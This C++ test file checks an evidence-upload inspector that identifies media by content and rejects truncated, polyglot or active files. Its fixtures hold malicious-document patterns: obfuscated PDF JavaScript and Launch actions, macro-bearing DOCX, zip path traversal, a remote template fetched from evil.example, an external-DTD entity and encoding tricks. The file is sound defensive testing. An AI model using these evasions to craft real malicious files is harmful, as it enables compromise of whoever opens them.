// What is taken as evidence and what is not: by content, whatever it is called.
#include "evidence/inspect.h"

#include <gtest/gtest.h>

#include "evidence/samples.h"

namespace cs::evidence {
namespace {

struct Sample {
    Media media;
    std::string bytes;
};

std::vector<Sample> all_samples() {
    return {{Media::jpeg, samples::jpeg(64, 48, samples::zhengzhou_exif())},
            {Media::png, samples::png(64, 48)},
            {Media::webp, samples::webp(64, 48)},
            {Media::mp3, samples::mp3()},
            {Media::ogg, samples::ogg()},
            {Media::wav, samples::wav()},
            {Media::amr, samples::amr()},
            {Media::mp4, samples::mp4()},
            {Media::m4a, samples::m4a()},
            {Media::webm, samples::webm()},
            {Media::pdf, samples::pdf()},
            {Media::docx, samples::docx()}};
}

Checked<Media> judged(const std::string& bytes) {
    auto media = media_of_bytes(std::string_view(bytes).substr(0, telling_bytes));
    if (!media) return reject(RejectionCode::unknown_media);
    TextContent content(bytes);
    return inspect(*media, content);
}

std::string_view verdict(const std::string& bytes) {
    auto found = judged(bytes);
    return found ? type_of(*found) : code_name(found.error().code);
}

TEST(Inspect, KnowsEachKindByItsContent) {
    for (const auto& [media, bytes] : all_samples()) EXPECT_EQ(verdict(bytes), type_of(media));
    EXPECT_EQ(verdict(samples::zip({"[Content_Types].xml", "xl/workbook.xml"})),
              type_of(Media::xlsx));
}

TEST(Inspect, RefusesWhatIsCutOffAnywhere) {
    for (const auto& [media, bytes] : all_samples()) {
        // A recording may have been stopped anywhere; the last byte of any other is missed.
        bool is_open = media == Media::webm || media == Media::mp3;
        if (is_open) continue;
        auto cut = bytes.substr(0, bytes.size() - 1);
        if (media == Media::pdf) cut = bytes.substr(0, bytes.size() - 4);
        EXPECT_EQ(judged(cut).has_value(), false) << type_of(media);
        auto half = bytes.substr(0, bytes.size() / 2 + 1);
        EXPECT_EQ(judged(half).has_value(), false) << type_of(media);
    }
}

// The same bytes must not be a picture to one program and an archive or a page to another.
TEST(Inspect, RefusesAnotherFileBehindTheFirst) {
    for (const auto& [media, bytes] : all_samples()) {
        if (media == Media::webm) continue;
        for (const auto& other : {samples::zip({"run.exe"}), std::string("<script>x</script>"),
                                  samples::mp4(), samples::pdf()}) {
            // A PDF is changed by what is appended to it (ISO 32000, 7.5.6).
            if (media == Media::pdf && other.starts_with("%PDF-")) continue;
            auto found = judged(bytes + other);
            ASSERT_FALSE(found.has_value()) << type_of(media);
            EXPECT_NE(found.error().code, RejectionCode::store_failed) << type_of(media);
        }
    }
    EXPECT_EQ(verdict(samples::jpeg(8, 8) + samples::zip({"a"})), "hidden_content");
    EXPECT_EQ(verdict(samples::png(8, 8) + "<html>"), "hidden_content");
}

TEST(Inspect, TellsSoundFromFilmByTheTracks) {
    auto with = [](const std::string& old, const std::string& now) {
        auto out = samples::m4a();
        auto at = out.find(old);
        EXPECT_NE(at, std::string::npos) << old;
        return out.replace(at, old.size(), now);
    };
    EXPECT_EQ(verdict(with("soun", "vide")), "video/mp4");
    EXPECT_EQ(verdict(with("soun", "text")), "video/mp4") << "a track of sound must be there";
    EXPECT_EQ(verdict(with("trak", "free")), "video/mp4") << "no track is known";
    // What cannot be read inside is not taken for sound.
    EXPECT_EQ(verdict(with(std::string("\0\0\0\x0Cmvhd", 8), std::string("\0\0\x0F\xFFmvhd", 8))),
              "video/mp4");
    EXPECT_EQ(verdict(with("isom", "M4A ")), "audio/mp4");
    EXPECT_EQ(verdict(with("isom", "qt  ")), "video/quicktime");
}

TEST(Inspect, TakesTheSmallerCopiesThatCamerasAdd) {
    auto picture = samples::jpeg(64, 48);
    EXPECT_EQ(verdict(picture + samples::jpeg(16, 12)), "image/jpeg");
    EXPECT_EQ(verdict(picture + std::string(512, '\0')), "image/jpeg");
}

TEST(Inspect, RefusesDocumentsThatRunSomething) {
    EXPECT_EQ(verdict(samples::pdf("/OpenAction << /S /JavaScript /JS (x) >>")), "active_content");
    EXPECT_EQ(verdict(samples::pdf("/S /Java#53cript /JS (x)")), "active_content");
    EXPECT_EQ(verdict(samples::pdf("/#4c#61#75nch")), "active_content");
    EXPECT_EQ(verdict(samples::pdf("/EmbeddedFiles 3 0 R /EmbeddedFile")), "active_content");
    EXPECT_EQ(verdict(samples::zip({"[Content_Types].xml", "word/document.xml",
                                    "word/vbaProject.bin"})),
              "active_content");
    EXPECT_EQ(verdict(samples::zip({"[Content_Types].xml", "word/document.xml", "../x"})),
              "hidden_content");
    EXPECT_EQ(verdict(samples::zip({"photo.jpg"})), "unknown_media");
}

TEST(Inspect, RefusesDocumentsThatFetchSomethingWhenTheyAreOpened) {
    auto with = [](const std::string& type, const std::string& mode, bool is_deflated) {
        return samples::zip_of(
            {{"[Content_Types].xml", "<x/>"},
             {"word/document.xml", "<x/>"},
             {"word/_rels/settings.xml.rels",
              "<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/" + type +
                  "\" Target=\"https://evil.example/t.dotm\" " + mode + "/></Relationships>"}},
            is_deflated);
    };
    for (bool is_deflated : {false, true}) {
        EXPECT_EQ(verdict(with("attachedTemplate", "TargetMode=\"External\"", is_deflated)),
                  "active_content");
        EXPECT_EQ(verdict(with("attachedTemplate", "TargetMode='&#69;xternal'", is_deflated)),
                  "active_content");
        EXPECT_EQ(verdict(with("hyperlink", "TargetMode=\"External\"", is_deflated)),
                  type_of(Media::docx));
        EXPECT_EQ(verdict(with("styles", "", is_deflated)), type_of(Media::docx));
    }
}

// However the markup is written, it is what a parser of XML makes of it that counts.
TEST(Inspect, ReadsRelationshipsAsXml) {
    auto in = [](const std::string& name, const std::string& before, const std::string& inside) {
        return verdict(samples::zip_of(
            {{"[Content_Types].xml", "<x/>"},
             {"word/document.xml", "<x/>"},
             {name, before + "<Relationships xmlns=\"urn:r\">" + inside + "</Relationships>"}}));
    };
    const std::string part = "word/_rels/settings.xml.rels";
    const std::string type = "Type=\"http://x/attachedTemplate\"", out = "TargetMode=\"External\"";
    EXPECT_EQ(in(part, "", "<Relationship " + type + " Target=\"http://e/?>\" " + out + "/>"),
              "active_content");
    EXPECT_EQ(in(part, "", "<Relationship Target='x Type=\"/hyperlink\"' " + type + " " + out + "/>"),
              "active_content");
    EXPECT_EQ(in(part, "<!DOCTYPE x [<!ENTITY e \"External\">]>",
                 "<Relationship " + type + " Target=\"t\" TargetMode=\"&e;\"/>"),
              "active_content");
    EXPECT_EQ(in(part, "<!DOCTYPE x SYSTEM \"http://e/x.dtd\">", ""), "active_content");
    EXPECT_EQ(in(part, "", "<p:Relationship xmlns:p=\"urn:r\" " + type + " " + out + "/>"),
              "active_content");
    for (const auto* name : {"word/_rels/settings.xml.RELS", "word/_RELS/settings.xml.Rels"})
        EXPECT_EQ(in(name, "", "<Relationship " + type + " Target=\"t\" " + out + "/>"),
                  "active_content") << name;
    EXPECT_EQ(in(part, "", "<Relationship Type='h/hyperlink' Target='&quot;>&#120;' " + out + "/>"),
              type_of(Media::docx));
    EXPECT_EQ(in(part, "", "<!-- <Relationship TargetMode='External'/> -->"), type_of(Media::docx));
    std::string wide = "\xFF\xFE";
    for (char c : "<Relationships><Relationship " + out + "/></Relationships>") wide += {c, '\0'};
    EXPECT_EQ(verdict(samples::zip_of({{"word/document.xml", "<x/>"}, {part, wide}})),
              "active_content");
    EXPECT_EQ(in(part, "<?xml version=\"1.0\" encoding=\"UTF-7\"?>", ""), "damaged_file");
    EXPECT_EQ(in(part, "", "<Relationship"), "damaged_file");
}

TEST(Inspect, UnpacksNoMoreRelationshipsThanADocumentHas) {
    std::vector<std::pair<std::string, std::string>> members{{"[Content_Types].xml", "<x/>"},
                                                             {"word/document.xml", "<x/>"}};
    const std::string half = "<Relationships>" + std::string(512 * 1024, ' ') + "</Relationships>";
    for (int i = 0; i < 3; ++i) members.emplace_back(std::to_string(i) + ".rels", half);
    EXPECT_EQ(verdict(samples::zip_of(members, true)), type_of(Media::docx));
    members.emplace_back("3.rels", half);
    EXPECT_EQ(verdict(samples::zip_of(members, true)), "damaged_file");
    EXPECT_EQ(verdict(samples::zip_of(members, false)), "damaged_file");
}

TEST(Inspect, TakesNoOtherKind) {
    using namespace std::literals;
    for (const auto& bytes :
         {"<svg xmlns=\"http://www.w3.org/2000/svg\"/>"s, "GIF89a"s, "MZ\x90"s, "\x7F" "ELF"s,
          "II*\0"s, "BM"s, "\0\0\0\x18" "ftypheic"s, "#!/bin/sh\n"s, "<html>"s, ""s})
        EXPECT_EQ(verdict(bytes), "unknown_media") << bytes;
}

// Every byte of every sample is once wrong: whatever the answer is, it is one.
TEST(Inspect, ComesToAnEndWithAnyByteWrong) {
    for (const auto& sample : all_samples()) {
        auto bytes = sample.bytes;
        for (std::size_t i = 0; i < bytes.size(); i += bytes.size() / 400 + 1) {
            bytes[i] = static_cast<char>(bytes[i] ^ 0xFF);
            auto found = judged(bytes);
            EXPECT_TRUE(found || found.error().code != RejectionCode::store_failed);
            bytes[i] = static_cast<char>(bytes[i] ^ 0xFF);
        }
    }
}

TEST(Rejections, HaveTwoLanguagesAndAStatus) {
    for (int i = 0; i < rejection_count; ++i) {
        auto code = static_cast<RejectionCode>(i);
        EXPECT_FALSE(english_text(code).empty());
        EXPECT_GT(chinese_text(code).size(), 6u) << code_name(code);
        EXPECT_GE(http_status(code), 400);
    }
}

}  // namespace
}  // namespace cs::evidence
